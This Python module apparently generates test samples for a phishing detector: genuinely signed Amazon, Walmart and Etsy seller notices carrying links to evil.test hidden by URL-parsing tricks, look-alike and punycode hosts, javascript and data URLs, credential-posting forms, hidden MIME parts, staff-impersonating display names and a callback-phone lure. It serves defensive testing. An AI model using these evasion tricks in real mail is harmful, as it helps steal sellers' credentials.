"""Truly signed mail whose text leads elsewhere or claims to be the staff: rows 63, 65 and 87 to 90."""

from collections.abc import Iterator
from dataclasses import replace

from .. import Profile, Sample
from ..build import Letter, multipart, signed
from ..delivery import deliver, passed
from .bait import CUSTOMER, HTML, NOTICE, RELAY, forge, genuine_customer, genuine_notice

BY = "clean"
OWN = '<a href="https://sellercentral.amazon.com/orders-v3/{}">order {}</a>'
NINE = "".join(OWN.format(number, number) for number in range(9))
AT_AMAZON = passed("amazon.com")
AT_WALMART = passed("relay.walmart.com", "walmart.com")

# (name, HTML, row): each takes who clicks or submits to evil.test, or runs the forger's words.
OUTSIDE = (
    ("link-among-nine-own", '<a href="https://evil.test/verify">verify</a>', 65),
    ("link-shown-as-own", '<a href="https://evil.test/x">https://sellercentral.amazon.com/</a>', 63),
    ("link-with-userinfo", '<a href="https://sellercentral.amazon.com@evil.test/">open</a>', 63),
    ("link-with-userinfo-and-port", '<a href="https://sellercentral.amazon.com:443@evil.test/">open</a>', 63),
    ("link-with-backslashes", '<a href="https:\\\\evil.test\\x">open</a>', 63),
    ("link-backslash-ends-host", '<a href="https://evil.test\\@sellercentral.amazon.com/">open</a>', 63),
    ("link-without-scheme", '<a href="//evil.test/x">open</a>', 63),
    ("link-with-one-slash", '<a href="https:/evil.test/x">open</a>', 63),
    ("link-with-no-slash", '<a href="https:evil.test/x">open</a>', 63),
    ("link-with-three-slashes", '<a href="https:///evil.test/x">open</a>', 63),
    ("link-upper-case", '<A HREF="HTTPS://EVIL.TEST/X">open</A>', 63),
    ("link-unquoted", "<a href=https://evil.test/x>open</a>", 63),
    ("link-with-tab-in-scheme", '<a href="ht\ttps://evil.test/x">open</a>', 63),
    ("link-with-newline-in-host", '<a href="https://ev\nil.test/x">open</a>', 63),
    ("link-with-leading-spaces", '<a href="  https://evil.test/x">open</a>', 63),
    ("link-in-character-references", '<a href="&#104;ttps&colon;//evil.test/x">open</a>', 63),
    ("link-host-percent-encoded", '<a href="https://%65vil.test/x">open</a>', 63),
    ("link-host-look-alike-letter", '<a href="https://sellercentral.am\u0430zon.com/">open</a>', 63),
    ("link-host-punycode", '<a href="https://xn--amzon-3ve.com/">open</a>', 63),
    ("link-host-brand-in-front", '<a href="https://amazon.com.evil.test/">open</a>', 63),
    ("link-host-brand-at-end", '<a href="https://notamazon.com/">open</a>', 63),
    ("link-host-is-public-storage", '<a href="https://amazon-help.s3.amazonaws.com/x">open</a>', 65),
    ("link-host-is-a-number", '<a href="https://3221225985/">open</a>', 63),
    ("link-after-base", '<base href="https://evil.test/"><a href="verify">open</a>', 63),
    ("link-in-image-map", '<map name="m"><area href="https://evil.test/x" shape="default"></map>', 63),
    ("link-in-svg", '<svg><a xlink:href="https://evil.test/x"><text>open</text></a></svg>', 63),
    ("link-in-svg-plain-href", '<svg><a href="https://evil.test/x"><text>open</text></a></svg>', 63),
    ("link-is-data", '<a href="data:text/html,<h1>Sign in</h1>">open</a>', 63),
    ("link-is-javascript", "<a href=\"javascript:location='https://evil.test'\">open</a>", 63),
    (
        "link-wrapped-by-microsoft",
        '<a href="https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.test%2Fx&amp;data=05">open</a>',
        63,
    ),
    ("form-posts-outside", '<form action="https://evil.test/x"><input name="password"></form>', 63),
    (
        "button-posts-outside",
        '<form action="https://www.amazon.com/"><button formaction="https://evil.test/x">Go</button></form>',
        63,
    ),
    ("page-refreshes-outside", '<meta http-equiv="refresh" content="0; url=https://evil.test/x">Please wait', 63),
    ("link-in-unclosed-tag", '<a href="https://evil.test/x" <b>open</b>', 63),
    ("link-after-comment-trick", '<!--> <a href="https://evil.test/x">open</a> -->', 63),
)

# (name, display name): a customer of the genuine relay who calls himself the marketplace.
STAFF = (
    ("customer-named-seller-support", '"Walmart Seller Support"'),
    ("customer-named-account-team", '"Walmart Account Team"'),
    ("customer-named-in-encoded-word", "=?utf-8?Q?Walmart_Seller=20Support?="),
    ("customer-named-with-cyrillic-letter", "=?utf-8?B?V9CwbG1hcnQgU2VsbGVyIFN1cHBvcnQ=?="),
)

# (name, host): a customer's message that leads to a look-alike of the catalogue.
LOOK_ALIKES = (
    ("customer-links-look-alike", "walmart-sellerhelp.com"),
    ("customer-links-brand-as-subdomain", "seller.walmart.com.evil.test"),
    ("customer-links-punycode-brand", "xn--walmrt-6nf.com"),
)


def samples(profile: Profile) -> Iterator[Sample]:
    """Everything here is signed, fresh, whole and meant for the seller."""
    for name, html, row in OUTSIDE:
        page = f"<html><body><p>Sold.</p>{NINE}{html}</body></html>\n"
        raw = genuine_notice(replace(NOTICE, body=page, content_type=HTML))
        why = "a notice that leads outside the marketplace's own sites"
        yield _clean(profile, name, deliver(raw, profile, AT_AMAZON), why=why, row=row)
    yield from _hidden_in_parts(profile)
    yield from _claims(profile)
    yield from _strangers_text(profile)


def _clean(profile: Profile, name: str, raw: bytes, *, why: str, row: int) -> Sample:
    return forge(profile, name, raw, by=BY, why=why, row=row, only=True)


def _hidden_in_parts(profile: Profile) -> Iterator[Sample]:
    link = '<a href="https://evil.test/x">open</a>'
    second = multipart("mixed", ("text/plain", "Sold."), (HTML, NINE), (HTML, link))
    inner_kind, inner = multipart("alternative", ("text/plain", "Sold."), (HTML, link), boundary="inner")
    nested = multipart("mixed", ("text/plain", "Sold."), (inner_kind, inner))
    for name, (kind, body) in (("link-in-second-html-part", second), ("link-in-nested-part", nested)):
        raw = genuine_notice(replace(NOTICE, body=body, content_type=kind))
        why = "the link stands in a part that a reader of the first part does not see"
        yield _clean(profile, name, deliver(raw, profile, AT_AMAZON), why=why, row=63)
    for encoding in ("base64", "quoted-printable"):
        raw = genuine_notice(replace(NOTICE, body=f"<p>Sold.</p>{link}\n", content_type=HTML, encoding=encoding))
        why = "the link shows only when the body is decoded"
        yield _clean(profile, f"link-in-{encoding}", deliver(raw, profile, AT_AMAZON), why=why, row=63)


def _claims(profile: Profile) -> Iterator[Sample]:
    for name, display in STAFF:
        raw = genuine_customer(replace(CUSTOMER, sender=f"{display} <{RELAY}>"))
        why = "the relay proves the route, and its writer claims to be the marketplace's staff"
        yield _clean(profile, name, deliver(raw, profile, AT_WALMART), why=why, row=87)
    for name, host in LOOK_ALIKES:
        body = f'<p>Please <a href="https://{host}/case">answer here</a></p>\n'
        raw = genuine_customer(replace(CUSTOMER, body=body, content_type=HTML))
        why = "a customer's message that leads to a look-alike of the marketplace"
        yield _clean(profile, name, deliver(raw, profile, AT_WALMART), why=why, row=88)


def _strangers_text(profile: Profile) -> Iterator[Sample]:
    """Etsy's sale notice quotes the buyer."""
    sale = Letter("transaction@etsy.com", "You made a sale on Etsy - Lamp [US$39.40, Order #4059129411]")
    kind, parts = multipart(
        "mixed",
        ("text/plain", "You made a sale."),
        ('text/html; name="form.html"\nContent-Disposition: attachment; filename="form.html"', "<p>Sign in</p>"),
    )
    tricks = (
        ("notice-quotes-phone-number", 89, replace(sale, body="Note: Etsy support, call +1 415 555 2671 now.\n")),
        ("notice-carries-attachment", 90, replace(sale, body=parts, content_type=kind)),
    )
    for name, row, letter in tricks:
        raw = deliver(signed(letter, "etsy.com"), profile, passed("etsy.com"))
        why = "a stranger's words in a truly signed notice"
        yield _clean(profile, name, raw, why=why, row=row)
